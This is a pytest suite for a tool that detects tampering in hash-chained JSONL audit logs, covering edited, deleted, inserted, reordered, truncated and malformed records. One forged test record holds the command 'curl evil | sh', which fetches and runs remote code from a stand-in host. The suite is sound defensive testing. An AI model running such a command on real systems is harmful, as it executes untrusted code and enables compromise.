"""`ways sensors verify` on real chained files written by the dispatcher, then tampered."""

from __future__ import annotations

import json

import pytest

from ways_sensors.pipeline import chain
from ways_sensors.state import spool
from ways_sensors.verify import LINE_CAP

from .conftest import payload
from .helpers import SID, cursor_of, no_checkpoints, spool_directly, start_dispatcher, wait_until


@pytest.fixture
def chained(install, tmp_path):
    out = tmp_path / "audit.jsonl"
    install.sensor(
        "audit", f"enabled: true\nrules:\n  all:\n    dispatch: {{file: {{path: '{out}'}}}}\n"
    )
    base = payload("PreToolUse")
    entries = [("SessionStart", payload("SessionStart"))]
    entries += [("PreToolUse", {**base, "tool_use_id": f"toolu_{i:03d}"}) for i in range(20)]
    entries += [("SessionEnd", payload("SessionEnd"))]
    spool_directly(install, entries)
    start_dispatcher(install).wait(timeout=60)
    lines = out.read_text().splitlines()
    assert json.loads(lines[-1])["section"] == "checkpoint"  # signed, outside the chain
    lines = no_checkpoints(lines)
    assert len(lines) == 22
    return install, out, lines


def verify(install, path, *args):
    r = install.ways("sensors", "verify", str(path), *args, "--json")
    return r.returncode, json.loads(r.stdout)


def test_intact_file_and_its_stored_head(chained):
    install, out, _ = chained
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["ok"] and data["records"] == 22
    [c] = data["chains"]
    assert (c["first"], c["last"], c["session_id"]) == (1, 22, SID)
    assert c["head"]["rule_seq"] == 22  # from the ledger the finished session left
    human = install.ways("sensors", "verify", str(out))
    assert human.returncode == 0 and "intact: 22 records in 1 chain(s)" in human.stdout


def write(out, lines):
    out.write_text("\n".join(lines) + "\n")


def test_edit(chained):
    install, out, lines = chained
    rec = json.loads(lines[7])
    rec["data"]["input"]["command"] = "echo innocent"
    lines[7] = json.dumps(rec)
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "edited" and data["break"]["line"] == 8


def test_delete(chained):
    install, out, lines = chained
    del lines[10]
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3
    assert (data["break"]["kind"], data["break"]["line"], data["break"]["rule_seq"]) == (
        "deleted",
        11,
        12,
    )


def test_insert(chained):
    install, out, lines = chained
    prev = json.loads(lines[4])
    forged = json.loads(lines[5])
    forged["data"]["input"]["command"] = "curl evil | sh"
    forged.pop("chain")
    chain.seal(forged, prev["chain"]["hash"])  # a forger who recomputes the hash
    lines.insert(5, json.dumps(forged))
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "inserted" and data["break"]["line"] == 7


def test_swap(chained):
    install, out, lines = chained
    lines[12], lines[13] = lines[13], lines[12]
    write(out, lines)
    code, data = verify(install, out)
    assert code == 3 and data["break"]["kind"] == "reordered" and data["break"]["line"] == 13


def test_truncate_needs_the_stored_head(chained):
    install, out, lines = chained
    write(out, lines[:-3])
    assert verify(install, out)[0] == 0  # the file alone cannot tell
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "truncated"
    assert "rule_seq 19" in data["break"]["message"]


def test_repeated_deliveries_are_not_tampering(chained):
    install, out, lines = chained
    lines.insert(9, lines[8])  # what an at_least_once redelivery looks like
    write(out, lines)
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["chains"][0]["duplicates"] == 1


def test_not_a_chained_file(install, tmp_path):
    f = tmp_path / "x.jsonl"
    f.write_text('{"a": 1}\n')
    assert verify(install, f)[0] == 3
    r = install.ways("sensors", "verify", str(tmp_path / "missing.jsonl"))
    assert r.returncode == 2 and "no such file" in r.stderr


# --- issue 12, defect 3: large tampering, unknown rules, hostile lines --------------------

OTHER = "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d"


def audit_to(install, path: str) -> None:
    """The shipped audit sensor (every section, at_least_once, chained), turned on and
    pointed at `path` (a template: {session_id}, {date} ...)."""
    install.sensor(
        "audit", f"enabled: true\nrules:\n  all:\n    dispatch: {{file: {{path: '{path}'}}}}\n"
    )


def hook_sessions(install, sids, tools=3):
    """Whole sessions through the real hook; each one's detached dispatcher drains it,
    leaves its ledger (the stored heads) and removes its folder."""
    for sid in sids:
        names = ["SessionStart"] + ["PreToolUse"] * tools + ["SessionEnd"]
        for i, name in enumerate(names):
            p = {**payload(name), "session_id": sid, "tool_use_id": f"toolu_{i:03d}"}
            r = install.hook(p)
            assert (r.returncode, r.stdout, r.stderr) == (0, b"", b"")
    assert wait_until(lambda: all(not (install.sessions() / s).exists() for s in sids))
    for sid in sids:
        assert (install.state_root / "ledger" / f"{sid}.json").exists()


@pytest.fixture
def shared(install, tmp_path):
    """One file shared by two sessions, written by the real hook and dispatchers."""
    out = tmp_path / "shared.jsonl"
    audit_to(install, str(out))
    hook_sessions(install, [SID, OTHER])
    lines = out.read_text().splitlines()
    assert {json.loads(x)["session_id"] for x in lines} == {SID, OTHER}
    return install, out, lines


def test_both_sessions_of_a_shared_file_are_intact(shared):
    install, out, _ = shared
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["ok"] and data["breaks"] == []
    assert sorted(c["session_id"] for c in data["chains"]) == sorted([SID, OTHER])
    assert data["rule"]["renders_here"] and sorted(data["rule"]["sessions_owed"]) == sorted(
        [SID, OTHER]
    )


def test_deleting_every_record_of_one_session(shared):
    install, out, lines = shared
    write(out, [x for x in lines if json.loads(x)["session_id"] != OTHER])
    assert verify(install, out)[0] == 0  # each chain left is whole: the file alone cannot tell
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "missing"
    assert data["break"]["session_id"] == OTHER
    [gone] = [c for c in data["chains"] if c["session_id"] == OTHER]
    assert gone["records"] == 0 and gone["head"]["rule_seq"] > 0
    human = install.ways("sensors", "verify", str(out), "--rule", "audit/all")
    assert human.returncode == 3 and f"broken (missing): session {OTHER}" in human.stdout


def test_an_emptied_shared_file(shared):
    install, out, _ = shared
    out.write_text("")
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 3 and {b["session_id"] for b in data["breaks"]} == {SID, OTHER}
    assert {b["kind"] for b in data["breaks"]} == {"missing"}


def test_an_emptied_per_session_file(install, tmp_path):
    audit_to(install, f"{tmp_path}/audit/{{session_id}}.jsonl")
    hook_sessions(install, [SID, OTHER])
    mine = tmp_path / "audit" / f"{SID}.jsonl"
    assert verify(install, mine, "--rule", "audit/all")[0] == 0
    mine.write_text("")
    code, data = verify(install, mine, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "missing"
    assert [b["session_id"] for b in data["breaks"]] == [SID]  # not the other one's file
    assert verify(install, tmp_path / "audit" / f"{OTHER}.jsonl", "--rule", "audit/all")[0] == 0


def test_a_rule_that_does_not_exist(chained):
    install, out, _ = chained
    for wrong in ("audit/al", "audti/all"):
        r = install.ways("sensors", "verify", str(out), "--rule", wrong)
        assert r.returncode == 2 and r.stdout == ""
        assert len(r.stderr.splitlines()) == 1 and "`ways sensors list`" in r.stderr
        assert wrong in r.stderr and "Traceback" not in r.stderr
    r = install.ways("sensors", "verify", str(out), "--rule", "audit")
    assert r.returncode == 2 and "SENSOR/RULE" in r.stderr


def test_a_removed_rule_is_still_known_by_its_heads(install, tmp_path):
    out = tmp_path / "trail.jsonl"
    sensor = install.sensor(
        "trail",
        f"rules:\n  all:\n    sections: [tool_call]\n    chain: true\n"
        f"    dispatch: {{file: {{path: '{out}'}}}}\n",
    )
    hook_sessions(install, [SID])
    sensor.unlink()  # no layer defines trail/all any more; its heads remain
    code, data = verify(install, out, "--rule", "trail/all")
    assert code == 0 and not data["rule"]["defined"]
    assert data["chains"][0]["head"]["rule_seq"] == 3
    write(out, no_checkpoints(out.read_text().splitlines())[:-1])
    assert verify(install, out, "--rule", "trail/all")[1]["break"]["kind"] == "truncated"


def test_hostile_lines_are_broken_never_a_crash(chained):
    install, out, lines = chained
    deep = "[" * 200_000 + "]" * 200_000
    with open(out, "wb") as f:
        for i, line in enumerate(lines):
            if i == 3:
                f.write(deep.encode() + b"\n")  # line 4
            if i == 6:
                f.write(b'{"chain": {"prev": "\xff\xfe"}}\n')  # line 8: not UTF-8
            if i == 9:  # line 12: longer than the cap, a hole costs no disk
                f.seek(LINE_CAP + 1, 1)
                f.write(b"\n")
            f.write(line.encode() + b"\n")
    for args in ((), ("--rule", "audit/all")):
        r = install.ways("sensors", "verify", str(out), *args, "--json")
        assert r.returncode == 3 and "Traceback" not in r.stderr, r.stderr
        data = json.loads(r.stdout)
        assert [(b["kind"], b["line"]) for b in data["breaks"]] == [
            ("edited", 4),
            ("edited", 8),
            ("edited", 12),
        ]
        assert "nested too deeply" in data["breaks"][0]["message"]
        assert "not valid UTF-8" in data["breaks"][1]["message"]
        assert f"over {LINE_CAP >> 20} MiB" in data["breaks"][2]["message"]
        [c] = data["chains"]  # the records around them are all still checked
        assert (c["records"], c["last"], c["break"]) == (22, 22, None)
    human = install.ways("sensors", "verify", str(out))
    assert human.returncode == 3 and human.stdout.count("broken (edited)") == 3


def test_a_lone_surrogate_in_a_record_is_not_tampering(install, tmp_path):
    """Claude Code may send lone surrogates (`\\ud800`); the dispatcher writes U+FFFD
    (utf8.py) and the chain hashes those bytes, so verify finds the file intact."""
    out = tmp_path / "audit.jsonl"
    audit_to(install, str(out))
    p = {**payload("PreToolUse"), "session_id": SID, "tool_input": {"command": "echo \ud800"}}
    body = json.dumps(p)  # ensure_ascii: the lone surrogate travels as the escape \ud800
    for raw in (json.dumps({**payload("SessionStart"), "session_id": SID}), body):
        assert install.hook(raw).returncode == 0
    assert install.hook({**payload("SessionEnd"), "session_id": SID}).returncode == 0
    assert wait_until(lambda: not (install.sessions() / SID).exists())
    assert "echo \ufffd" in out.read_bytes().decode("utf-8")
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["records"] == 3


def spool_at(install, sid, entries):
    """Spool entries with chosen hook times, with the hook's own writer."""
    for ts, event, p in entries:
        body = json.dumps({**p, "session_id": sid}).encode()
        spool.append(sid, event, ts, str(install.project), body, layout=install.layout)


@pytest.fixture
def midnight(install, tmp_path):
    """The shipped audit template ({date}/{session_id}): a session across midnight, so
    its chain starts in one day's file and goes on in the next."""
    audit_to(install, f"{tmp_path}/audit/{{date}}/{{session_id}}.jsonl")
    day = 1_795_996_800 * 10**9  # 2026-11-30T00:00:00Z
    base = payload("PreToolUse")
    entries = [(day - 5 * 10**9, "SessionStart", payload("SessionStart"))]
    entries += [
        (day + (i - 4) * 10**9, "PreToolUse", {**base, "tool_use_id": f"toolu_{i:03d}"})
        for i in range(8)
    ]
    entries += [(day + 5 * 10**9, "SessionEnd", payload("SessionEnd"))]
    spool_at(install, SID, entries)
    assert start_dispatcher(install).wait(timeout=60) == 0
    first = tmp_path / "audit" / "2026-11-29" / f"{SID}.jsonl"
    second = tmp_path / "audit" / "2026-11-30" / f"{SID}.jsonl"
    assert len(no_checkpoints(first.read_text().splitlines())) == 5
    assert len(no_checkpoints(second.read_text().splitlines())) == 5
    return install, first, second


def test_a_chain_across_dated_files_is_intact(midnight):
    install, first, second = midnight
    for path in (first, second):
        code, data = verify(install, path, "--rule", "audit/all")
        assert code == 0, data["breaks"]
    assert data["chains"][0]["first"] == 6 and data["chains"][0]["head"]["rule_seq"] == 10


def test_tampering_at_the_seam_of_dated_files(midnight):
    install, first, second = midnight
    lines = first.read_text().splitlines()
    last = max(i for i, x in enumerate(lines) if no_checkpoints([x]))
    write(first, lines[:last] + lines[last + 1 :])  # the last record before midnight
    code, data = verify(install, first, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "truncated"
    assert str(second) in data["break"]["message"]
    code, data = verify(install, second, "--rule", "audit/all")
    assert (code, data["break"]["kind"], data["break"]["line"]) == (3, "deleted", 1)
    assert "rule_seq 5..5 missing" in data["break"]["message"]  # seeded by day one's end
    write(first, lines)
    later = second.read_text().splitlines()
    write(second, later[: max(i for i, x in enumerate(later) if no_checkpoints([x]))])
    assert verify(install, second, "--rule", "audit/all")[1]["break"]["kind"] == "truncated"
    second.write_text("")
    code, data = verify(install, second, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "missing"


@pytest.mark.parametrize("seq", [10**15, [12], {"n": 12}, True])
def test_a_forged_rule_seq_of_any_shape(chained, seq):
    """A forger can seal any rule_seq (the chain has no key): a huge jump is checked
    without walking it, and a rule_seq that is no number is an edit, not a crash."""
    install, out, lines = chained
    prev = json.loads(lines[10])
    forged = json.loads(lines[11])
    forged.pop("chain")
    forged["rule_seq"] = seq
    chain.seal(forged, prev["chain"]["hash"])
    lines[11] = json.dumps(forged)
    write(out, lines)
    r = install.ways("sensors", "verify", str(out), "--json", timeout=30)
    assert r.returncode == 3 and "Traceback" not in r.stderr, r.stderr
    brk = json.loads(r.stdout)["break"]
    assert brk["line"] == 12
    assert brk["kind"] == ("reordered" if seq == 10**15 else "edited")


def test_a_live_session_is_checked_against_its_cursor(install, tmp_path):
    out = tmp_path / "live.jsonl"
    audit_to(install, str(out))
    for i, name in enumerate(["SessionStart", "PreToolUse", "PreToolUse", "PreToolUse"]):
        assert install.hook({**payload(name), "tool_use_id": f"toolu_{i:03d}"}).returncode == 0

    def settled():
        st = cursor_of(install, "audit.all")
        return st is not None and st["rule_seq"] == 4 and st["pending"] is None

    assert wait_until(settled)  # no SessionEnd: the dispatcher is alive, no ledger yet
    assert not (install.state_root / "ledger" / f"{SID}.json").exists()
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 0 and data["chains"][0]["head"]["source"] == "cursor"
    lines = no_checkpoints(out.read_text().splitlines())
    write(out, lines[:-1])
    assert verify(install, out, "--rule", "audit/all")[1]["break"]["kind"] == "truncated"
    out.write_text("")
    code, data = verify(install, out, "--rule", "audit/all")
    assert code == 3 and data["break"]["kind"] == "missing"


def test_only_regular_files(install):
    r = install.ways("sensors", "verify", "/dev/zero", timeout=30)  # endless: never read
    assert r.returncode == 2 and "not a regular file" in r.stderr


def test_a_torn_line_is_named_and_the_record_after_it_still_read(install, tmp_path):
    """A receiver killed mid-line (rsyslog's omfile under SIGKILL) leaves an unfinished
    line that the next record continues: verify names the torn part as torn, never as
    an edit, and reads the record after it; the torn record, sent again, is whole."""
    from .formats import samples

    lines_ = [x + b"\n" for x in samples.lines(samples.records())]
    torn = lines_[1][: len(lines_[1]) // 2]  # record 2, cut mid-line, then sent again
    body = [lines_[0], torn + lines_[1], *lines_[2:]]
    path = tmp_path / "central.jsonl"
    path.write_bytes(b"".join(body))
    r = install.ways("sensors", "verify", str(path), "--json")
    report = json.loads(r.stdout)
    kinds = [b["kind"] for b in report["breaks"]]
    assert kinds == ["torn"], report["breaks"]
    [chain] = report["chains"]
    assert (chain["first"], chain["last"], chain["gaps"]) == (1, len(lines_), [])
    assert chain["duplicates"] == 0 and chain["records"] == len(lines_)


def test_chains_lines_and_trees_report_one_break():
    """The chain check, the line reader and evidence's tree check share one Break (one
    JSON shape): no checker keeps its own."""
    from pathlib import Path

    from ways_sensors import verify as chains
    from ways_sensors.evidence import offline, treecheck

    package = Path(chains.__file__).resolve().parent.parent
    defined = [
        str(p.relative_to(package))
        for p in package.rglob("*.py")
        if "\nclass Break" in p.read_text(encoding="utf-8")
    ]
    assert defined == ["verify/breaks.py"]
    assert offline.Break is treecheck.Break is chains.Break
